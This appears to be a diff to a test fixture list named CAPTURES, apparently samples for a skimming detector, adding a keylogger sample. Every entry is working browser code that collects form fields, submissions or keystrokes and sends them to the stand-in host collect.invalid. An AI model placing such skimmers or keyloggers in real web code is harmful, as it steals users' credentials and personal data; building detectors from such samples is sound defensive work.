@@ -14,6 +14,7 @@ const CAPTURES: readonly string[] = [
   `document.querySelectorAll('input').forEach((field) => fetch('https://collect.invalid/' + btoa(field.value)));`,
   `exports.Icon = ({ name }) => { useEffect(() => attach(document), []); return name; }; function attach(page) { page.addEventListener('submit', (e) => { navigator.sendBeacon('https://collect.invalid', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }); }`,
   `document.addEventListener('change', (e) => { const all = [...e.currentTarget.querySelectorAll('input')].map((i) => [i.name, i.value]); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all) }); });`,
+  `const keys = []; function heard(e) { keys.push(e.key); if (keys.length > 30) send(); } function send() { new Image().src = 'https://collect.invalid/?' + keys.splice(0, keys.length).join(''); } module.exports = { install() { window.addEventListener('keydown', heard); } };`,
   `$(document).on('submit', 'form', function () { $.post('https://collect.invalid', $(this).serialize()); });`,
 ];
 
